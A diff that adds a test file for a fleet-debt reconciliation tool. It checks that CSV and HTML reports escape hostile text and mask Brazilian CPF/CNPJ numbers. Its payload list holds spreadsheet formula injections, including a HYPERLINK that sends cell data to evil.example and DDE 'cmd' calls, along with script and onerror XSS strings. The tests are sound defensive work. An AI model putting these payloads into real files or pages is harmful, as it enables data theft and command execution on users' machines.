@@ -1,0 +1,152 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { readRecords } from '../../../src/csv/read-records.ts'
+import { EXCEPTION_CODES } from '../../../src/ledger/report-rows.ts'
+import type { ReportException } from '../../../src/ledger/report-rows.ts'
+import { veilDocuments } from '../../../src/reconciliation/reports/veil-documents.ts'
+import { writeReports } from '../../../src/reconciliation/reports/write-reports.ts'
+import { memoryDebt, memoryOrder, memoryRun, memorySource, STARTED } from './memory-source.ts'
+import { memoryVehicle } from './memory-source.ts'
+import { filesOf } from './reports-setup.ts'
+
+let reportsDir: string
+beforeAll(async () => {
+  reportsDir = await mkdtemp(join(tmpdir(), 'frota-hostile-'))
+})
+afterAll(() => rm(reportsDir, { recursive: true, force: true }))
+
+const CANARY = '529.982.247-25'
+const PAYLOADS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example?x="&A1;"click")',
+  "=cmd|'/C calc'!A0",
+  '+SUM(1;2)',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  ';=1+1',
+  '";=1+1;"',
+  '"\r\n=1+1',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "javascript:alert('x')//</style></svg><script>",
+  '`${alert(1)}`',
+  `CPF ${CANARY} e 52998224725, CNPJ 11.222.333/0001-81`,
+]
+
+/** Every free text of every row is the payload. */
+function ledgerOf(text: string) {
+  const debt = memoryDebt({
+    kind: text,
+    group: text,
+    description: text,
+    dependsOnDescription: text,
+  })
+  const words = { nickname: text, costCentre: text }
+  const vehicle = memoryVehicle({ ...words, refusal: text, debts: [debt] })
+  const order = memoryOrder({
+    ...words,
+    method: text,
+    status: text,
+    attemptStatus: text,
+    gateReason: text,
+    pixCode: text.includes('CPF') ? '' : text,
+  })
+  const exceptions = EXCEPTION_CODES.map((code): ReportException => ({
+    ...words,
+    code,
+    plate: text,
+    renavam: text,
+    uf: text,
+    since: STARTED.toISOString(),
+    amountCents: 1n,
+    foundCents: 2n,
+    effect: 'order',
+    detail: text,
+    error: { code: text, title: text, message: text, action: text },
+    line: 3,
+    issues: [{ code: 'R-PLATE', column: text, value: text }],
+    reference: 'reference',
+  }))
+  return { vehicles: [vehicle], orders: [order], exceptions }
+}
+
+async function cellsOf(path: string, flavour: 'excel' | 'machine'): Promise<string[][]> {
+  const dialect = { delimiter: flavour === 'excel' ? ';' : ',', quote: '"' }
+  const cells: string[][] = []
+  const text = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '')
+  for await (const batch of readRecords([text], dialect)) {
+    for (const record of batch) cells.push(record.cells)
+  }
+  return cells
+}
+
+/** What a spreadsheet would run; a number may begin with a minus, and `="digits"` is a text. */
+function runsInASpreadsheet(cell: string): boolean {
+  if (/^-?\d+[.,]\d\d$/.test(cell) || /^="[0-9A-Za-z]+"$/.test(cell)) return false
+  return /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell)
+}
+
+async function report(payload: string, flavour: 'excel' | 'machine') {
+  const run = memoryRun()
+  const tools = { source: memorySource(ledgerOf(payload)), openRow: () => [] }
+  const settings = { ...run.settings, flavour }
+  return writeReports(tools, { run: { ...run, settings }, reportsDir })
+}
+
+test.each(PAYLOADS)('no cell runs in a spreadsheet, and no file tears: %j', async (payload) => {
+  for (const flavour of ['excel', 'machine'] as const) {
+    const { directory, manifest } = await report(payload, flavour)
+    for (const name of ['debts', 'vehicles', 'orders', 'exceptions']) {
+      const records = await cellsOf(join(directory, `${name}.csv`), flavour)
+      const width = records[0]?.length
+      expect(records.filter((cells) => cells.length !== width)).toEqual([])
+      expect(records.flat().filter(runsInASpreadsheet)).toEqual([])
+      expect(records).toHaveLength((manifest.files[`${name}.csv`]?.rows ?? 0) + 1)
+    }
+  }
+})
+
+test.each(PAYLOADS)('the page shows it as text and nothing else: %j', async (payload) => {
+  const { directory } = await report(payload, 'machine')
+  const page = await readFile(join(directory, 'summary.html'), 'utf8')
+  expect(page).not.toMatch(/<script|<img src=x|javascript:alert\('/i)
+  const tags = [...page.matchAll(/<([a-z0-9]+)/g)].map(([, tag]) => tag ?? '')
+  const known =
+    'html head meta title style body div strong header p h1 main b span section h2 h3 ul li table ' +
+    'thead tbody tfoot tr th td img figure figcaption code a dl dt dd details summary svg rect br'
+  expect(tags.filter((tag) => !known.split(' ').includes(tag))).toEqual([])
+})
+
+test('a document in a text is masked in every file', async () => {
+  const { directory } = await report(PAYLOADS.at(-1) ?? '', 'excel')
+  for (const [name, bytes] of Object.entries(await filesOf(directory))) {
+    const text = bytes.toString()
+    const found = [CANARY, '52998224725', '11.222.333/0001-81'].filter((one) => text.includes(one))
+    expect({ [name]: found }).toEqual({ [name]: [] })
+  }
+})
+
+test('only numbers with valid check digits are masked', () => {
+  expect(veilDocuments(`de ${CANARY}.`)).toBe('de ***.982.247-**.')
+  expect(veilDocuments('RENAVAM 26827649960, pedido 12345678900')).toBe(
+    'RENAVAM 26827649960, pedido 12345678900',
+  )
+  expect(veilDocuments('CNPJ 12.ABC.345/01DE-35')).toBe('CNPJ 12.***.***/****-35')
+})
+
+test('a simulated answer is marked on every row and in every document', async () => {
+  const { directory } = await report('texto', 'excel')
+  for (const name of ['debts', 'vehicles', 'orders', 'exceptions']) {
+    const [, ...rows] = await cellsOf(join(directory, `${name}.csv`), 'excel')
+    expect(rows.filter((cells) => cells.at(-1) !== 'SIMULADO')).toEqual([])
+  }
+  for (const name of ['summary.html', 'manifest.json', 'columns.md']) {
+    expect(await readFile(join(directory, name), 'utf8')).toContain('SIMULADO')
+  }
+})
